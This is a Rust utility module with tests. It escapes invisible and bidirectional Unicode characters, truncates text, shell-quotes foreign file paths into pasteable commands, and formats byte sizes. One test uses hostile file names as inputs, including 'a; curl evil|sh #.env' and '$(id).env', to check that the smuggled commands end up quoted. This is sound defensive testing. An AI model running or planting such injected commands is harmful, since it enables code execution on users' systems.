//! Foreign names as people can read them, and in commands that people may paste; sizes for people.

/// A text in which what cannot be seen or turns it around is written as an escape: `\u{202e}`.
pub fn visible(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    for c in text.chars() {
        if c.is_control() || is_invisible(c) {
            shown.extend(c.escape_default());
        } else {
            shown.push(c);
        }
    }
    shown
}

/// A foreign text as one line of at most so many characters: what cannot be seen or turns text around becomes a blank.
pub fn line(text: &str, most: usize) -> String {
    let shown = text.chars().map(|c| if c.is_control() || is_invisible(c) { ' ' } else { c });
    cut(&shown.collect::<String>().split_whitespace().collect::<Vec<_>>().join(" "), most)
}

/// The first so many characters of a text as it is; `…` where something is left out. Secrets are hidden before: a part
/// of one looks like none.
pub fn cut(text: &str, most: usize) -> String {
    match text.char_indices().nth(most) {
        Some((end, _)) => format!("{}…", &text[..end]),
        None => text.to_owned(),
    }
}

/// Marks that turn or hide text: the bidirectional controls (Unicode UAX #9), and characters without width. Variation
/// selectors are none: emoji have them.
pub const fn is_invisible(c: char) -> bool {
    matches!(c,
        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}'..='\u{1160}' | '\u{180e}' | '\u{200b}'..='\u{200f}'
        | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{feff}' | '\u{ffa0}'
        | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}')
}

/// Whether a name is shown as it is: then what is copied from the screen is the name.
pub fn is_faithful(name: &str) -> bool {
    // A backtick would end the code span in which a summary shows a command.
    !name.chars().any(|c| c.is_control() || is_invisible(c) || c == '`')
}

/// Our words and a foreign path as one line to paste into a POSIX shell, the path quoted where it needs it.
///
/// `None` where the path is not shown as it is: the line would name another file than it seems to.
pub fn pasted(words: &str, path: &str) -> Option<String> {
    let path = if path.starts_with('-') { format!("./{path}") } else { path.to_owned() };
    let quoted = shlex::try_quote(&path).ok()?;
    is_faithful(&path).then(|| format!("{words} {quoted}"))
}

/// Bytes for people: `1.5 MiB`. Tenths are cut, not rounded, so that nothing looks larger than it is.
pub fn size(bytes: u64) -> String {
    const UNITS: [&str; 5] = ["KiB", "MiB", "GiB", "TiB", "PiB"];
    if bytes < 1024 {
        return format!("{bytes} B");
    }
    let mut tenths = u128::from(bytes) * 10 / 1024;
    let mut unit = 0;
    while tenths >= 10_240 && unit + 1 < UNITS.len() {
        tenths /= 1024;
        unit += 1;
    }
    format!("{}.{} {}", tenths / 10, tenths % 10, UNITS[unit])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sizes_are_for_people() {
        let table = [(0, "0 B"), (1023, "1023 B"), (1024, "1.0 KiB"), (1_572_864, "1.5 MiB")];
        for (bytes, text) in table {
            assert_eq!(size(bytes), text);
        }
        assert_eq!(size(u64::MAX), "16383.9 PiB");
    }

    #[test]
    fn a_path_is_one_word_of_the_shell() {
        let table = [
            (".env", "chmod 600 .env"),
            ("a b.env", "chmod 600 'a b.env'"),
            ("a; curl evil|sh #.env", "chmod 600 'a; curl evil|sh #.env'"),
            ("$(id).env", "chmod 600 '$(id).env'"),
            ("it's.env", "chmod 600 \"it's.env\""),
            ("-rf", "chmod 600 ./-rf"),
            ("é.env", "chmod 600 'é.env'"),
        ];
        for (path, line) in table {
            assert_eq!(pasted("chmod 600", path).as_deref(), Some(line));
            let words = shlex::split(line).unwrap();
            assert_eq!(
                words.last().unwrap().trim_start_matches("./"),
                path,
                "as the shell reads it"
            );
        }
    }

    #[test]
    fn no_command_for_a_name_that_is_not_what_it_seems() {
        for path in ["a\u{202e}vne.", "a\nb", "a`b", "a\u{200b}.env", "a\u{7}", "a\0b"] {
            assert_eq!(pasted("chmod 600", path), None, "{path:?}");
        }
    }

    #[test]
    fn a_long_text_is_cut_behind_a_whole_character() {
        for (text, most, expected) in [
            ("déjà", 4, "déjà"),
            ("déjà", 2, "dé…"),
            ("  a\t b", 5, "  a\t …"),
            ("日本", 0, "…"),
            ("", 0, ""),
        ] {
            assert_eq!(cut(text, most), expected, "{text:?}");
        }
        assert_eq!(line("  a\t b\nc", 3), "a b…", "one line, and then cut");
    }

    #[test]
    fn what_turns_or_hides_text_is_seen() {
        assert_eq!(visible("a\u{202e}b\u{200b}c\td"), "a\\u{202e}b\\u{200b}c\\td");
        assert_eq!(visible("déjà vu 日本 ⚠\u{fe0f}"), "déjà vu 日本 ⚠\u{fe0f}");
    }
}
